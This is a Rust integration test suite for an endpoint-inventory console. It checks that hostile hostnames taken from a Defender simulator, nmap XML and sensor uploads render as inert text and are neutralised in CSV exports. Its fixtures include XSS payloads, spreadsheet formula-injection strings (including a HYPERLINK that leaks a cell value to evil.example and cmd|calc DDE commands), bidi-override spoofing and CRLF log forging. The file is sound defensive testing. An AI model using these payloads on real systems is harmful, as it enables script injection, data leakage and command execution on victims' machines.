//! Hostile names from Defender (machine names the simulator serves) and from discovery (nmap
//! XML and sensor JSON hostnames): stored verbatim, inert in the server-rendered endpoint list,
//! the Endpoint Summary and the CSV export, and no link on those pages leads anywhere but our
//! own pages or the Defender portal.
//!
//! Already covered elsewhere: the CSV cell rule on one row (`views::csv::tests`), portal
//! links built from the machine id only (`defender::portal` tests, `endpoints_view.rs`).

use serde_json::{json, Value};
use server::sim::{self, RunningSim, SimConfig};

use crate::html;
use crate::support::TestApp;

/// Names every source accepts: markup, script URLs, quotes, spreadsheet formulas, bidi
/// overrides and invisible characters, and a long one.
fn hostile() -> Vec<String> {
    let mut names: Vec<String> = [
        "<script>alert('xss')</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg onload=alert(1)>",
        "</script><script>alert(2)</script>",
        "javascript:alert(document.cookie)",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "invoice\u{202E}fdp.exe",
        "zero\u{200B}width\u{2066}isolate\u{2069}&amp;",
    ]
    .map(str::to_owned)
    .to_vec();
    // Within the sensor format's limit (255 bytes), which is the smallest.
    names.push(format!("long-{}", "ü<".repeat(80)));
    names
}

/// Bidi embeddings, overrides and isolates (Unicode's explicit formatting characters).
const BIDI: &[char] = &[
    '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}',
    '\u{2069}',
];

/// Names with control characters: Defender's are stored as given; discovery refuses them.
const CONTROL: &[&str] = &[
    "ansi\u{1b}[31mred\u{1b}[0m",
    "forged\r\nINFO admin logged in",
];

/// A simulator whose machines 0.. (skipping 7, machine 0's stale twin) carry `names`.
async fn simulator(names: &[String]) -> RunningSim {
    let mut config = SimConfig::for_tests(names.len() + 4);
    let positions = (0..).filter(|i| *i != 7);
    config.machine_names = positions.zip(names.iter().cloned()).collect();
    sim::start(config, "127.0.0.1:0".parse().unwrap())
        .await
        .unwrap()
}

async fn enable_defender(app: &TestApp, admin: &reqwest::Client, sim: &RunningSim) {
    let s = sim.app();
    let res = app
        .call(
            admin,
            "integrations/defender/save",
            &[
                ("tenant_id", s.tenant_id.as_str()),
                ("client_id", s.client_id.as_str()),
                ("client_secret", s.client_secret.as_str()),
                ("cloud", "commercial"),
                ("custom_login_url", sim.base_url()),
                ("custom_api_url", sim.base_url()),
                ("enabled", "on"),
            ],
        )
        .await;
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    let outcome = app.sync.trigger("test").wait().await;
    assert!(outcome.ok, "{outcome:?}");
}

async fn get_text(client: &reqwest::Client, url: &str) -> String {
    let res = client.get(url).send().await.unwrap();
    assert_eq!(res.status(), 200, "{url}");
    res.text().await.unwrap()
}

/// Endpoint ids by stored hostname.
async fn stored(app: &TestApp) -> Vec<(i64, String)> {
    server::on_pool!(&app.pool, |db| sqlx::query_as(
        "SELECT endpoint_id, hostname FROM endpoint WHERE hostname IS NOT NULL"
    )
    .fetch_all(db)
    .await
    .unwrap())
}

fn id_of(rows: &[(i64, String)], name: &str) -> i64 {
    rows.iter()
        .find(|(_, h)| h == name)
        .unwrap_or_else(|| panic!("{name:?} is not stored verbatim: {rows:?}"))
        .0
}

/// What makes a page inert (`html::assert_no_injection`), and every name present only as
/// escaped text.
fn assert_inert(what: &str, page: &str, benign: &str, names: &[&str]) {
    html::assert_no_injection(what, page, benign);
    for name in names {
        // (A name with only `&` is a prefix of its escaped form, so only markup is looked for.)
        if name.contains(['<', '>']) {
            assert!(!page.contains(name), "{what}: {name:?} is in the page raw");
        }
        assert!(
            page.contains(&html::escaped_text(name)),
            "{what}: {name:?} is not shown as text"
        );
    }
}

/// The list with every endpoint on it, the list showing one benign endpoint, and each tab of
/// each named endpoint's summary against the same tab of a benign endpoint.
async fn assert_pages_inert(
    app: &TestApp,
    admin: &reqwest::Client,
    names: &[String],
    benign: &str,
) {
    let rows = stored(app).await;
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    let list = get_text(admin, &app.url("/endpoints?page_size=500")).await;
    let benign_list = get_text(
        admin,
        &app.url(&format!(
            "/endpoints?q={}",
            app::api::auth::encode_component(benign)
        )),
    )
    .await;
    assert!(benign_list.contains(benign));
    assert_inert("/endpoints", &list, &benign_list, &names);
    let benign_id = id_of(&rows, benign);
    for tab in ["", "?tab=risk", "?tab=risk&sub=defender"] {
        let benign_page = get_text(admin, &app.url(&format!("/endpoints/{benign_id}{tab}"))).await;
        for name in &names {
            let path = format!("/endpoints/{}{tab}", id_of(&rows, name));
            let page = get_text(admin, &app.url(&path)).await;
            // The Risk tabs do not show the hostname; the heading above them does.
            assert_inert(&path, &page, &benign_page, &[name]);
            // A bidi override stays inside its own name in the summary's list of names.
            if tab.is_empty() && name.contains(BIDI) {
                let isolated = format!("<bdi>{}</bdi>", html::escaped_text(name));
                assert!(page.contains(&isolated), "{path}: {name:?} not isolated");
            }
        }
    }
}

/// Every cell that a spreadsheet would run as a formula starts with an apostrophe, and every
/// name is in the export, as given or behind that apostrophe, with control and bidi
/// characters replaced.
async fn assert_csv_neutral(app: &TestApp, admin: &reqwest::Client, names: &[String]) {
    let csv = get_text(admin, &app.url("/api/endpoints/export.csv")).await;
    let records = html::csv_records(&csv);
    let header = &records[0];
    let hostname = header.iter().position(|h| h == "hostname").unwrap();
    for record in &records[1..] {
        assert_eq!(record.len(), header.len(), "{record:?}");
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?}"
            );
        }
    }
    let exported: Vec<&str> = records[1..].iter().map(|r| r[hostname].as_str()).collect();
    for name in names {
        // Controls and bidi overrides become U+FFFD in the CSV (they could break a row or
        // rewrite a terminal); formulas get an apostrophe.
        let name: String = name
            .chars()
            .map(|c| {
                let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}');
                if c.is_control() || bidi { '\u{fffd}' } else { c }
            })
            .collect();
        let expected = if name.starts_with(['=', '+', '-', '@']) {
            format!("'{name}")
        } else {
            name.clone()
        };
        assert!(
            exported.contains(&expected.as_str()),
            "{expected:?} not in {exported:?}"
        );
    }
}

#[tokio::test]
async fn hostile_defender_names_are_stored_verbatim_and_render_inert() {
    let mut names = hostile();
    names.extend(CONTROL.iter().map(|s| (*s).to_owned()));
    // Defender has no limit of its own on names; the console must cope with a huge one.
    names.push(format!("huge-{}", "<b>".repeat(1500)));
    let benign = "benign-host.corp.example";
    let mut with_benign = names.clone();
    with_benign.push(benign.to_owned());
    let sim = simulator(&with_benign).await;
    let dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(dir.path()).await;
    let admin = app.admin().await;
    enable_defender(&app, &admin, &sim).await;

    let rows = stored(&app).await;
    for name in &with_benign {
        id_of(&rows, name);
    }
    assert_pages_inert(&app, &admin, &names, benign).await;
    assert_csv_neutral(&app, &admin, &names).await;
    app.stop().await;
    sim.shutdown().await;
}

fn xml_attr(value: &str) -> String {
    value
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\r', "&#13;")
        .replace('\n', "&#10;")
}

/// An nmap report with one host per name, on MACs 02:00:00:00:01:nn.
fn nmap_xml(names: &[String]) -> String {
    let mut xml = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
         <nmaprun scanner=\"nmap\" args=\"nmap -oX - 192.0.2.0/24\" start=\"1795737600\" version=\"7.93\" xmloutputversion=\"1.05\">\n",
    );
    for (i, name) in names.iter().enumerate() {
        xml.push_str(&format!(
            "<host><status state=\"up\" reason=\"arp-response\"/>\
             <address addr=\"192.0.2.{}\" addrtype=\"ipv4\"/>\
             <address addr=\"02:00:00:00:01:{i:02X}\" addrtype=\"mac\"/>\
             <hostnames><hostname name=\"{}\" type=\"PTR\"/></hostnames></host>\n",
            i + 10,
            xml_attr(name)
        ));
    }
    xml.push_str(
        "<runstats><finished time=\"1795737660\" exit=\"success\"/></runstats></nmaprun>\n",
    );
    xml
}

async fn upload(app: &TestApp, client: &reqwest::Client, body: Vec<u8>) -> (u16, Value) {
    let part = reqwest::multipart::Part::bytes(body).file_name("scan.xml");
    let res = client
        .post(app.url("/api/endpoints/import"))
        .multipart(reqwest::multipart::Form::new().part("file", part))
        .send()
        .await
        .unwrap();
    (res.status().as_u16(), res.json().await.unwrap())
}

async fn ingest(app: &TestApp, token: &str, body: &Value) -> (u16, Value) {
    let res = reqwest::Client::new()
        .post(app.url("/api/ingest/sensor"))
        .bearer_auth(token)
        .body(body.to_string())
        .send()
        .await
        .unwrap();
    (res.status().as_u16(), res.json().await.unwrap())
}

/// A sensor batch with one observation per name, on MACs 02:00:00:00:02:nn.
fn sensor_batch(names: &[String]) -> Value {
    let observations: Vec<Value> = names
        .iter()
        .enumerate()
        .map(|(i, name)| {
            json!({ "mac": format!("02:00:00:00:02:{i:02X}"), "ip": format!("198.51.100.{}", i + 10), "hostname": name })
        })
        .collect();
    json!({ "sensor": "attack-suite", "observations": observations })
}

async fn endpoint_count(app: &TestApp) -> i64 {
    server::on_pool!(&app.pool, |db| sqlx::query_scalar(
        "SELECT COUNT(*) FROM endpoint"
    )
    .fetch_one(db)
    .await
    .unwrap())
}

#[tokio::test]
async fn hostile_discovery_names_are_stored_verbatim_and_render_inert() {
    let dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(dir.path()).await;
    let admin = app.admin().await;
    let (_, token) = server::endpoints::create_api_token(&app.pool, "attack-suite", "admin")
        .await
        .unwrap();
    let benign = "benign-host.lan";

    // Control characters are refused by both formats, naming the field, and nothing is written.
    for name in CONTROL {
        let names = vec![benign.to_owned(), (*name).to_owned()];
        let (status, body) = upload(&app, &admin, nmap_xml(&names).into_bytes()).await;
        assert_eq!(status, 400, "{body}");
        assert!(
            body["error"].as_str().unwrap().contains("control"),
            "{body}"
        );
        let (status, body) = ingest(&app, &token, &sensor_batch(&names)).await;
        assert_eq!(status, 400, "{body}");
        assert!(
            body["error"].as_str().unwrap().contains("control"),
            "{body}"
        );
        assert_eq!(endpoint_count(&app).await, 0);
    }
    // So is a hostname over the sensor limit (255 bytes), whole batch and all.
    let (status, body) = ingest(&app, &token, &sensor_batch(&["x".repeat(256)])).await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(endpoint_count(&app).await, 0);

    let mut names = hostile();
    names.push(benign.to_owned());
    let (status, body) = upload(&app, &admin, nmap_xml(&names).into_bytes()).await;
    assert_eq!(status, 200, "{body}");
    let sensed: Vec<String> = hostile()
        .into_iter()
        .map(|n| format!("{n} (sensor)"))
        .collect();
    let (status, body) = ingest(&app, &token, &sensor_batch(&sensed)).await;
    assert_eq!(status, 200, "{body}");

    let rows = stored(&app).await;
    let mut all = hostile();
    all.extend(sensed);
    for name in &all {
        id_of(&rows, name);
    }
    assert_pages_inert(&app, &admin, &all, benign).await;
    assert_csv_neutral(&app, &admin, &all).await;
    app.stop().await;
}
